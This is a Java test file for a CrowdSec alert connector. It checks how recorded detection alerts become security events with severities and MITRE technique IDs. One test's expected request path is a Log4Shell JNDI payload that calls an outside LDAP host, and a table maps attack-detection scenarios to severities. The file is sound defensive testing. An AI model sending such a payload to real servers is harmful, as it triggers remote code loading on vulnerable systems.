package dev.watchfloor.connectors.crowdsec;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.watchfloor.connectors.event.Addresses;
import dev.watchfloor.connectors.event.Kind;
import dev.watchfloor.connectors.event.Layer;
import dev.watchfloor.connectors.event.Outcome;
import dev.watchfloor.connectors.event.SecurityEvent;
import dev.watchfloor.connectors.event.Severity;
import dev.watchfloor.connectors.http.Json;
import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** Alerts that CrowdSec 1.4.6 gave after real log lines, as events. */
class RecordedAlertsTest {

    @Test
    void everyRecordedAlertIsUnderstood() throws Exception {
        List<SecurityEvent> events = new ArrayList<>();
        for (String file : List.of(
                "alerts-nginx-ssh.json",
                "alerts-traversal-and-agents.json",
                "alerts-lab-attack.json",
                "alert-manual-ban-cscli.json")) {
            for (JsonNode alert : recorded(file)) {
                events.add(AlertEvents.event(alert));
            }
        }

        assertThat(events).hasSize(33);
        // CrowdSec decides and refuses nobody: an alert must pass neither for the proof of a refusal nor for a request.
        assertThat(events).allSatisfy(event -> {
            assertThat(event.outcome()).isEqualTo(Outcome.UNKNOWN);
            assertThat(event.layer()).isEqualTo(Layer.DETECTION);
        });
    }

    @Test
    void anExploitIsHighAndCarriesItsRequest() throws Exception {
        SecurityEvent event = AlertEvents.event(find("alerts-nginx-ssh.json", 23));

        assertThat(event.kind()).isEqualTo(Kind.ALERT);
        assertThat(event.severity()).isEqualTo(Severity.HIGH);
        assertThat(event.technique()).isEqualTo("T1190");
        assertThat(event.ruleId()).isEqualTo("crowdsecurity/apache_log4j2_cve-2021-44228");
        assertThat(event.source()).isEqualTo(Addresses.parse("203.0.113.88").orElseThrow());
        assertThat(event.time()).isEqualTo(Instant.parse("2026-11-24T02:20:05.714434012Z"));
        assertThat(event.method()).isEqualTo("GET");
        assertThat(event.path()).isEqualTo("/?x=${jndi:ldap://198.51.100.200/a}");
        assertThat(event.status()).isEqualTo(200);
        assertThat(event.userAgent()).startsWith("Mozilla/5.0");
        assertThat(event.summary())
                .isEqualTo("crowdsecurity/apache_log4j2_cve-2021-44228 by 203.0.113.88: 1 event, decided: ban");
    }

    @Test
    void guessingNamesTheAccountWhenItIsOne() throws Exception {
        String many = find("alerts-nginx-ssh.json", 16).toString();
        SecurityEvent event = AlertEvents.event(Json.read(many.replaceAll("admin[0-9]+", "root")));

        assertThat(event.severity()).isEqualTo(Severity.MEDIUM);
        assertThat(event.technique()).isEqualTo("T1110");
        assertThat(event.user()).isEqualTo("root");
        assertThat(AlertEvents.event(Json.read(many)).user())
                .as("of several none")
                .isNull();
    }

    @Test
    void aBanByHandIsAnActAndNoAttack() throws Exception {
        SecurityEvent event =
                AlertEvents.event(recorded("alert-manual-ban-cscli.json").getFirst());

        assertThat(event.kind()).isEqualTo(Kind.ADMINISTRATION);
        assertThat(event.severity()).isEqualTo(Severity.INFORMATIONAL);
        assertThat(event.summary()).isEqualTo("Decided by hand: ban for 203.0.113.201, cscli manual");
    }

    @Test
    void aSimulatedAlertAsksForNoAttention() throws Exception {
        ObjectNode alert = find("alerts-nginx-ssh.json", 23).deepCopy();
        alert.put("simulated", true);

        SecurityEvent event = AlertEvents.event(alert);

        assertThat(event.severity()).isEqualTo(Severity.INFORMATIONAL);
        assertThat(event.summary()).endsWith("(simulated)");
    }

    @Test
    void aTimeAheadOfTheServersOwnIsNotBelieved() throws Exception {
        ObjectNode alert = find("alerts-nginx-ssh.json", 23).deepCopy();
        alert.put("stop_at", "2026-11-26 02:20:05 +0000 UTC");

        assertThat(AlertEvents.event(alert).time()).isEqualTo(Instant.parse("2026-11-24T02:20:06Z"));
    }

    @Test
    void anAlertOfARangeHasNoAddress() throws Exception {
        assertThat(AlertEvents.event(find("alerts-nginx-ssh.json", 3)).source()).isNull();
    }

    @Test
    void whatHasNoTimeOrNoScenarioIsUnreadable() throws Exception {
        ObjectNode alert = find("alerts-nginx-ssh.json", 23).deepCopy();
        assertThatThrownBy(() -> AlertEvents.event(alert.deepCopy().without("created_at")))
                .isInstanceOf(UnreadableAlertException.class);
        assertThatThrownBy(() -> AlertEvents.event(alert.deepCopy().without("scenario")))
                .isInstanceOf(UnreadableAlertException.class);
    }

    @ParameterizedTest
    @CsvSource({
        "crowdsecurity/ssh-slow-bf_user-enum, MEDIUM, T1110",
        "LePresidente/http-generic-401-bf, MEDIUM, T1110",
        "somebody/app-bruteforce, MEDIUM, T1110",
        "crowdsecurity/http-path-traversal-probing, HIGH, T1190",
        "crowdsecurity/http-probing, LOW, T1595",
        "crowdsecurity/http-bad-user-agent, LOW, T1595",
        "crowdsecurity/suricata-major-severity, HIGH,",
        "somebody/their-own, MEDIUM,",
    })
    void theScenariosNameSaysHowBadItIs(String name, Severity severity, String technique) {
        assertThat(Scenario.of(name)).isEqualTo(new Scenario(severity, technique));
    }

    private static JsonNode find(String file, long id) throws IOException {
        return recorded(file).stream()
                .filter(alert -> alert.path("id").asLong() == id)
                .findFirst()
                .orElseThrow();
    }

    private static List<JsonNode> recorded(String file) throws IOException {
        try (InputStream in = RecordedAlertsTest.class.getResourceAsStream("/crowdsec/1.4.6/" + file)) {
            JsonNode read = Json.read(new String(in.readAllBytes(), StandardCharsets.UTF_8));
            return read.isArray() ? read.valueStream().toList() : List.of(read);
        }
    }
}
